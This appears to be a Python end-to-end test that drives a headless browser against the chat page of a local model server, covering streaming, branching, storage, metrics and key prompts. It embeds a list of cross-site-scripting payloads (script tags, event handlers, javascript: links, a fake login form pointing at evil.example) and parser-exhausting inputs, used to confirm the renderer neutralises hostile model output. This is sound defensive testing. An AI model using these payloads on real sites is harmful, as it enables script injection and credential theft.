#!/usr/bin/env python3
"""The page of quern serve in a real browser: what it shows, keeps and refuses.

Trains a tiny model, serves it under two names, and drives a headless Chromium. Nothing outside this machine is reached.

Usage: page.py QUERN SOURCE [FOLDER FOR SCREENSHOTS]
"""

import hashlib
import json
import os
import re
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import threading
from pathlib import Path

from browser import Browser

KEY = "sk-of-a-test"

# What a hostile model could write; each line has its own way to load something, to run a script or to look like the page.
HOSTILE = """
<script>window.hacked = 1</script><img src=x onerror="window.hacked = 2"><img src="http://evil.example/1.png">
![pixel](http://evil.example/2.png) [run](javascript:window.hacked=3) [run](JaVaScRiPt:window.hacked=4) [run](data:text/html,x)
<a href="  javascript:window.hacked=5">x</a> <iframe src="http://evil.example/"></iframe><object data="http://evil.example/"></object>
<style>body { display: none }</style><link rel="stylesheet" href="http://evil.example/3.css"><base href="http://evil.example/">
<div id="main" class="composer" style="position: fixed; inset: 0; background: url(http://evil.example/4.png)">over all</div>
<form action="http://evil.example/"><input name="key" autofocus onfocus="window.hacked = 6"><button>Log in</button></form>
<svg onload="window.hacked = 7"><use href="http://evil.example/5.svg#a"/></svg><math><mtext><table><mglyph><style><img src onerror="window.hacked = 8">
<details open ontoggle="window.hacked = 9"><summary>s</summary></details><meta http-equiv="refresh" content="0;url=http://evil.example/">
<video src="http://evil.example/6" autoplay></video><b onclick="window.hacked = 10">bold</b> <table background="http://evil.example/7">

```html
<script>window.hacked = 11</script>
```
"""

# Text that makes parsers of Markdown slow, or recurse too deeply.
HEAVY = ["> " * 20000, "*a **b " * 20000, "[" * 50000, "- " * 5000, "<div>" * 3000, "| a " * 3000 + "\n" + "| - " * 3000]


def environment():
    kept = {k: v for k, v in os.environ.items() if not k.startswith(("QUERN_", "OMP_"))}
    return kept | {"OMP_NUM_THREADS": "1", "OMP_WAIT_POLICY": "passive"}


def expect(condition, what, seen=""):
    if not condition:
        raise SystemExit(f"{what}\n{seen!r}")


def make_models(quern, source, folder):
    (folder / "input.txt").write_text("".join(f"line {i * i} says that {i} times {i}\n" for i in range(300)))
    settings = ("data.path=input.txt", "model.model.max_positions=4096", "model.train.steps=60")
    subprocess.run([quern, "make", f"{source}/tests/system/tiny.yaml", *(word for one in settings for word in ("--set", one)), "-q"],
                   cwd=folder, env=environment(), check=True, stdout=subprocess.DEVNULL)
    for name in ("first", "second"):
        shutil.copytree(folder / "runs/tiny/model/model", folder / name)


class Server:
    def __init__(self, quern, folder, *arguments):
        self.process = subprocess.Popen([quern, "serve", *arguments, "--port", "0"], cwd=folder, env=environment(),
                                        stderr=subprocess.PIPE, text=True)
        for line in self.process.stderr:
            if found := re.search(r"listening on (http://\S+?);", line):
                self.url = found[1]
                return
        raise SystemExit("the server ended before it listened")

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.process.send_signal(signal.SIGINT)
        self.process.communicate(timeout=60)


# A tiny model ends its answers anywhere: these go on until something else ends them.
ENDLESS = """
const plain = window.fetch;
window.fetch = (path, options) => {
  if (options?.body) options.body = JSON.stringify({max_tokens: 300, ...JSON.parse(options.body), ignore_eos: true});
  return plain(path, options);
};
"""


class Wire:
    """A way to the server on which event streams come to a halt after `stream_bytes`, where it is a number, until `cut` is set,
    and then break."""

    def __init__(self, url):
        self.server = ("127.0.0.1", int(url.rsplit(":", 1)[1]))
        self.stream_bytes = None
        self.cut = threading.Event()
        self.listener = socket.create_server(("127.0.0.1", 0))
        self.url = f"http://127.0.0.1:{self.listener.getsockname()[1]}"
        threading.Thread(target=self.accept, daemon=True).start()

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.listener.close()

    def accept(self):
        while True:
            try:
                client, _ = self.listener.accept()
            except OSError:  # closed
                return
            try:
                server = socket.create_connection(self.server)
            except OSError:  # the server is gone, and so is the test
                client.close()
                continue
            threading.Thread(target=self.pass_on, args=(client, server, False), daemon=True).start()
            threading.Thread(target=self.pass_on, args=(server, client, True), daemon=True).start()

    def pass_on(self, source, target, answers):
        left = None  # bytes of a stream that is to be cut
        try:
            while piece := source.recv(65536):
                if answers and b"text/event-stream" in piece:
                    left = self.stream_bytes
                if left is not None:
                    piece, left = piece[:left], left - len(piece)
                target.sendall(piece)
                if left is not None and left <= 0:
                    self.cut.wait(60)
                    break
        except OSError:
            pass
        for one in (source, target):
            try:
                one.shutdown(socket.SHUT_RDWR)
            except OSError:
                pass


class Page(Browser):
    """The page, in the words of its users."""

    def set_up(self, settings):
        """A new conversation, which begins with these settings."""
        self.run("location.hash = '#/chat'")
        self.run(f"localStorage.setItem('quern.settings', {json.dumps(json.dumps(settings))})")
        self.reload()

    def reload(self):
        super().reload()
        self.ready()

    def ready(self):
        self.until("document.querySelector('select.model option')", "the models")

    def stored(self):
        """Waits until everything that was to be stored is: reading comes after what was written before."""
        self.run("""new Promise(resolve => {
          const open = indexedDB.open('quern');
          open.onsuccess = () => {
            const read = open.result.transaction('conversations').objectStore('conversations').count();
            read.onsuccess = () => { open.result.close(); resolve(); };
          };
        })""")

    def send(self, text):
        self.click(".composer textarea")
        self.type(text)
        self.press("Enter")
        self.until(f"document.querySelector('.thread')?.textContent.includes({json.dumps(text)})", "the message")

    def idle(self):
        self.until("!document.querySelector('.running') && document.querySelector('.message.assistant')", "the end of the answer")

    def texts(self, selector):
        return self.run(f"Array.from(document.querySelectorAll({json.dumps(selector)}), one => one.textContent)")

    def answers(self):
        return self.texts(".message.assistant > .content")

    def slow(self, bytes_per_second):
        """Answers come no faster than this; 0: as they do."""
        self.call("Network.emulateNetworkConditions", offline=False, latency=0, uploadThroughput=-1,
                  downloadThroughput=bytes_per_second or -1)

    def show(self, view):
        self.run(f"location.hash = '#/{view}'")
        self.until(f"document.querySelector('#views a[href=\"#/{view}\"][aria-current]')")


def streams(page):
    page.set_up({"model": "first", "max_tokens": 200, "temperature": 0.8, "seed": 1})
    page.slow(20000)
    page.send("Hello there")
    grown = [page.until("document.querySelector('.running > .content')?.textContent.length"),
             page.until("document.querySelector('.running > .content')?.textContent.length > 40")]
    page.until("document.querySelector('[role=log]').getAttribute('aria-busy') === 'true'", "the log to be busy")
    page.slow(0)
    page.idle()
    expect(len(page.answers()) == 1 and len(page.answers()[0]) > grown[0], "the answer grew", page.answers())
    expect("200 tokens" in page.texts(".figures")[-1], "its figures are told", page.texts(".figures"))
    expect("cut at its longest length" in page.texts(".ending")[-1], "its end is explained", page.texts(".ending"))


def stops(page):
    page.slow(5000)
    page.send("Go on for long")
    page.until("document.querySelector('.running > .content')?.textContent.length > 5")
    page.press("Escape")
    page.until("!document.querySelector('.running')", "the answer to stop")
    page.slow(0)
    expect("You stopped" in page.texts(".ending")[-1], "a stopped answer says so", page.texts(".ending"))
    stopped = page.answers()[-1]
    page.click(".message:last-child button", "Go on")
    page.idle()
    expect(page.answers()[-1].startswith(stopped.rstrip()[:20]) and len(page.answers()[-1]) > len(stopped),
           "the answer goes on from where it was", [stopped, page.answers()[-1]])


def branches(page):
    page.show("chat")
    page.run("document.activeElement.blur()")
    page.press("n")
    page.until("document.querySelector('.welcome')", "a new conversation")
    page.send("One")
    page.idle()
    page.click("button[title='Answer again']")
    page.until("document.querySelector('.message.assistant .branches')?.textContent.includes('2 / 2')", "a second answer")
    page.idle()
    page.click(".message.user button[title='Edit']")
    page.run("document.querySelector('.editor textarea').select()")
    page.type("Two")
    page.click(".editor button", "Send")
    page.until("document.querySelector('.message.user .branches')?.textContent.includes('2 / 2')", "a branch")
    page.idle()
    expect(page.texts(".message.user > .content") == ["Two"], "the edited message is walked", page.texts(".message.user > .content"))
    page.click(".message.user button[title='Previous alternative']")
    page.until("document.querySelector('.message.user > .content').textContent === 'One'", "the first branch")
    expect(len(page.texts(".message.assistant .branches")) == 1, "both answers of the first branch are there")


def keeps(page):
    before = page.texts(".message > .content")
    page.stored()
    page.reload()
    page.until("document.querySelectorAll('.message').length > 1", "the conversation")
    expect(page.texts(".message > .content") == before, "a reload changes nothing", [before, page.texts(".message > .content")])
    expect(page.texts("#history li") == ["One", "Hello there"], "conversations are listed", page.texts("#history li"))
    page.click("#history input[type=search]")
    page.type("go LONG")
    page.until("document.querySelectorAll('#history li').length === 1", "one that has both words")
    page.click("#history li a")
    page.until("document.querySelector('.thread').textContent.includes('Hello there')", "the other conversation")
    page.run("document.querySelector('#history input').value = ''")
    page.click("#history li button[title^='Rename']")
    page.run("document.querySelector('#history li input').select()")
    page.type("Renamed")
    page.press("Enter")
    page.until("document.querySelector('#history').textContent.includes('Renamed')", "the new name")
    page.click("#history li.current button[title^='Delete']")
    page.until("!document.querySelector('#history').textContent.includes('Renamed')", "the conversation to be gone")
    page.click(".notice button", "Undo")
    page.until("document.querySelector('#history').textContent.includes('Renamed')", "the conversation again")


def exports(page):
    same = page.run("""(async () => {
      const [{Conversation}, transfer] = await Promise.all([import('/page/js/conversation.js'), import('/page/js/transfer.js')]);
      const one = new Conversation({settings: {system: 'Be kind.'}});
      const asked = one.add('', 'user', 'Why?');
      one.add(asked.id, 'assistant', 'No.');
      one.add(asked.id, 'assistant', 'Because.', {reasoning: 'Hm.'});
      const [back] = transfer.fromJson(transfer.toJson([one]));
      const refused = ['{}', '[]', 'null', '{"conversations": [{"messages": [{"id": "a", "parent": "b"}]}]}',
        '{"conversations": [{"messages": [{"id": "a", "role": "system", "content": ""}]}]}'].filter(text => {
          try { transfer.fromJson(text); } catch (error) { return error instanceof Error; }
        });
      return [JSON.stringify(back.messages) === JSON.stringify(one.messages), JSON.stringify(back.path) === JSON.stringify(one.path),
        refused.length, transfer.toMarkdown(back)];
    })()""")
    expect(same[:3] == [True, True, 5], "what is exported comes back", same)
    for part in ("# Why?", "Be kind.", "## You\n\nWhy?", "Because.", "Hm."):
        expect(part in same[3], f"the Markdown has {part!r}", same[3])
    expect("No." not in same[3], "the Markdown walks one branch", same[3])


def compares(page):
    page.show("compare")
    page.until("document.querySelectorAll('.side select')[1].value === 'second'", "the second model")
    page.click(".side-settings summary")
    page.click(".side-settings[open] input[type=number]")
    page.type("0")
    page.send("Which of you?")
    page.idle()
    sides = page.run("Array.from(document.querySelectorAll('.side'), one => one.querySelector('.figures')?.textContent)")
    expect("first" in sides[0] and "second" in sides[1], "both models answer", sides)
    page.click(".side:last-child button", "Go on in chat")
    page.until("document.querySelector('.view.chat .message.assistant')", "the conversation in the chat")
    expect(page.run("document.querySelector('.view.chat select.model').value") == "second", "with its model")


def tells_tokens(page):
    page.set_up({"model": "first", "max_tokens": 12, "probabilities": True})
    page.show("chat")
    page.send("How sure are you?")
    page.idle()
    page.click("button[title='Token probabilities']")
    page.until("document.querySelectorAll('.token').length === 12", "twelve tokens")
    page.run("document.querySelector('.token').focus()")
    page.press("ArrowRight")
    shown = page.until("document.querySelectorAll('.token')[1] === document.activeElement && Array.from(document.querySelectorAll('.card .figure'), one => one.textContent)")
    expect(len(shown) >= 8 and all(one.endswith(" %") for one in shown), "the likeliest tokens are told", shown)
    page.click("button[title='Token probabilities']")
    page.until("document.querySelector('.message.assistant .block')", "the text again")


def neutralises(page):
    reached = len(page.requests)
    found = page.run("""(async text => {
      const {MarkdownView, safe} = await import('/page/js/markdown.js');
      const node = document.createElement('div');
      document.body.append(node);
      const view = new MarkdownView(node);
      for (let end = 1; end < text.length; end += 7) view.update(text.slice(0, end));
      view.update(text);
      await new Promise(resolve => setTimeout(resolve, 300));
      const tags = Array.from(node.querySelectorAll('*'), one => one.localName);
      const attributes = Array.from(node.querySelectorAll('*')).flatMap(one => one.getAttributeNames());
      const links = Array.from(node.querySelectorAll('a[href]'), one => one.protocol);
      const code = node.querySelector('pre code').textContent;
      node.remove();
      return {tags: [...new Set(tags)], attributes: [...new Set(attributes)], links: [...new Set(links)], code, hacked: window.hacked ?? 0};
    })(%s)""" % json.dumps(HOSTILE))
    allowed = {"div", "p", "a", "b", "br", "pre", "code", "span", "button", "svg", "use", "details", "summary", "table"}
    expect(set(found["tags"]) <= allowed, "no other elements", set(found["tags"]) - allowed)
    expect(not [one for one in found["attributes"] if one in ("id", "style", "name", "src", "action") or one.startswith("on")],
           "no dangerous attributes", found["attributes"])
    expect(set(found["links"]) <= {"http:", "https:"}, "links lead to the web", found["links"])
    expect("<script>" in found["code"], "code is shown as it is", found["code"])
    expect(found["hacked"] == 0, "nothing ran", found)
    expect(all("evil" not in one for one in page.requests[reached:]), "nothing was loaded", page.requests[reached:])
    expect(not page.complaints, "the policy had nothing to forbid", page.complaints)
    # The second line of defence, where the first one let all through: the browser may complain here.
    left = page.run("""(async html => {
      const {safe} = await import('/page/js/markdown.js');
      const node = document.createElement('div');
      node.append(safe(html));
      document.body.append(node);
      await new Promise(resolve => setTimeout(resolve, 100));
      node.remove();
      return [node.querySelectorAll('script, iframe, object, style, link, base, form, input, svg, math, meta, video, img, [onclick], [style], [id]').length,
        window.hacked ?? 0];
    })(%s)""" % json.dumps(HOSTILE))
    expect(left == [0, 0], "the second line holds alone", left)
    page.complaints.clear()
    for text in HEAVY:
        length = page.run("""import('/page/js/markdown.js').then(({MarkdownView}) => {
          const node = document.createElement('div');
          new MarkdownView(node).update(%s);
          return node.textContent.length;
        })""" % json.dumps(text))
        expect(length > 0, "heavy text is shown", text[:20])


def reads_metrics(page):
    values = page.run("""import('/page/js/prometheus.js').then(({Samples, since, quantile}) => {
      const text = ['# HELP a b', 'quern_t_bucket{model="x",le="0.1"} 2', 'quern_t_bucket{model="x",le="0.5"} 6',
        'quern_t_bucket{model="x",le="+Inf"} 8', 'quern_n_total{model="x"} 3', 'quern_n_total{model="a \\\\"b\\\\" {c} 1"} 4.5e1'].join('\\n');
      const samples = new Samples(text);
      const buckets = samples.buckets('quern_t');
      return [samples.sum('quern_n_total'), samples.sum('quern_n_total', 'x'), samples.models, quantile(buckets, 0.5),
        quantile(buckets, 0.99), quantile(since(buckets, buckets), 0.5), quantile([], 0.5)];
    })""")
    expect(values[:3] == [48, 3, ['a "b" {c} 1', "x"]], "samples are read", values)
    expect(abs(values[3] - 0.3) < 1e-12 and values[4:] == [0.5, None, None], "quantiles are right", values)
    page.show("metrics")
    page.until("document.querySelector('.page .figure b')?.textContent === '0'", "how many are answered now")
    page.until("document.querySelector('.plot canvas').width > 100 && document.querySelectorAll('.plot').length === 7", "plots")
    page.show("models")
    page.until("document.querySelectorAll('.cards .tile').length === 2", "both models")


def explains_errors(page):
    page.set_up({"model": "first", "max_tokens": 5, "temperature": -1})
    page.show("chat")
    page.send("Too hot")
    page.until("document.querySelector('.failure[role=alert]')", "the error")
    expect("temperature" in page.texts(".failure")[0], "the server's words are shown", page.texts(".failure"))
    page.complaints.clear()  # the browser tells of the status 400


def fits(page, screenshots):
    page.set_up({"model": "first", "max_tokens": 60})
    page.size(320, 640)
    for view in ("chat", "compare", "models", "metrics"):
        page.show(view)
        widths = page.run("[document.documentElement.scrollWidth, ...Array.from(document.querySelectorAll('.scroller'), one => one.scrollWidth)]")
        expect(max(widths) <= 320, f"{view} fits a phone", widths)
        if screenshots:
            page.screenshot(f"{screenshots}/{view}.png")
    page.show("chat")
    page.click("button[title='Menu']")
    # A view that is still being drawn closes the sidebar: ask again then.
    page.until("""document.documentElement.classList.contains('sidebar-open')
                  || document.querySelector("button[title='Menu']").click()""", "the sidebar to open")
    page.until("document.querySelector('#sidebar').getBoundingClientRect().left === 0", "the sidebar")
    page.click("#views a", "Chat")
    page.size(1280, 800)


def answers_keys(page):
    page.run("document.activeElement.blur()")
    page.press("?")
    page.until("document.querySelector('dialog[open]')?.textContent.includes('Answer again')", "the list of keys")
    page.press("Escape")
    page.until("!document.querySelector('dialog')")
    for scheme in ("dark", "light"):
        page.scheme(scheme)
        ground = page.run("getComputedStyle(document.body).backgroundColor")
        page.press("d")
        expect(page.run("getComputedStyle(document.body).backgroundColor") != ground, "the theme is switched", ground)
        page.press("d")
        expect(page.run("getComputedStyle(document.body).backgroundColor") == ground, "and back", ground)


def outlives_a_broken_connection(page, server):
    with Wire(server.url) as wire:
        page.open(wire.url)
        page.ready()
        page.set_up({"model": "first", "temperature": 0})
        wire.stream_bytes = 6000
        page.send("Speak")
        page.until("document.querySelector('.running > .content')?.textContent.length > 5", "some of the answer")
        wire.cut.set()
        page.until("document.querySelector('.failure')?.textContent.includes('connection to the server was lost')", "the loss to be told")
        kept = page.answers()[-1]
        expect(len(kept) > 0, "what came is kept", page.answers())
        page.until("document.querySelector('#banner').checkVisibility()", "the banner")
        wire.stream_bytes = None
        page.until("!document.querySelector('#banner').checkVisibility()", "the banner to go")
        page.click(".failure button", "Go on")
        page.until(f"document.querySelector('.message.assistant > .content').textContent.length > {len(kept)}", "more of the answer")
        page.press("Escape")
        page.idle()
        expect(page.answers()[-1].startswith(kept.rstrip()), "it goes on from there", [kept, page.answers()])
    page.complaints.clear()  # the browser tells of the broken connection


def asks_for_a_key(quern, folder, page):
    digest = hashlib.sha256(bytes.fromhex("5a17") + KEY.encode()).hexdigest()
    (folder / "keys.yaml").write_text(f"keys:\n  - name: tester\n    hash: sha256:5a17:{digest}\n")
    with Server(quern, folder, "first", "--api-keys", "keys.yaml") as server:
        page.open(server.url)
        page.until("document.querySelector('dialog[open] #key')", "the question for a key")
        page.type("wrong")
        page.press("Enter")
        page.until("document.querySelector('dialog[open] #key-why')?.textContent.includes('not known')", "the refusal")
        page.type(KEY)
        page.press("Enter")
        page.ready()
        page.set_up({"model": "first", "max_tokens": 5})  # and the key outlives a reload
        page.send("Let me in")
        page.idle()
        expect(page.run("fetch('/v1/models').then(answer => answer.status)") == 401, "others need a key")
        expect(all(answer == 200 for answer in page.run("Promise.all(['/', '/page/js/app.js', '/health'].map(path => fetch(path).then(one => one.status)))")),
               "the page itself needs none")
    page.complaints.clear()  # the browser tells of the status 401


def main():
    quern, source = (str(Path(argument).resolve()) for argument in sys.argv[1:3])
    screenshots = sys.argv[3] if len(sys.argv) > 3 else None
    with tempfile.TemporaryDirectory() as name, Page() as page:
        folder = Path(name)
        make_models(quern, source, folder)
        page.size(1280, 800)
        page.call("Page.addScriptToEvaluateOnNewDocument", source=ENDLESS)
        with Server(quern, folder, "first", "second") as server:
            page.open(server.url)
            page.ready()
            for check in (streams, stops, branches, keeps, exports, compares, tells_tokens, neutralises, reads_metrics,
                          explains_errors, lambda one: fits(one, screenshots), answers_keys):
                check(page)
                expect(not page.complaints, f"{check.__name__}: the browser has nothing to complain of", page.complaints)
            for request in page.requests:
                expect(request.startswith((server.url, "data:", "blob:")), "no outside requests", request)
            outlives_a_broken_connection(page, server)
        asks_for_a_key(quern, folder, page)


if __name__ == "__main__":
    main()
